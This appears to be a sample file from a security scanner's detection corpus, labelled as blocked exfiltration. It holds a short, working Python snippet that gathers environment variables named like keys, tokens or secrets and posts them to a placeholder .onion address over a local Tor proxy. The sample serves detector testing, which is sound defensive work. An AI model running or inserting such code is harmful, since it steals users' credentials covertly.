# pyguard-corpus: verdict=block category=exfil rules=PG601,PG604
# what: sends environment secrets to a .onion service through a local Tor SOCKS proxy
import os

import requests

proxies = {"http": "socks5h://127.0.0.1:9050", "https": "socks5h://127.0.0.1:9050"}
secrets = {k: v for k, v in os.environ.items() if "KEY" in k or "TOKEN" in k or "SECRET" in k}
requests.post("http://exampleonionaddressxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx.onion/drop", json=secrets, proxies=proxies, timeout=30)
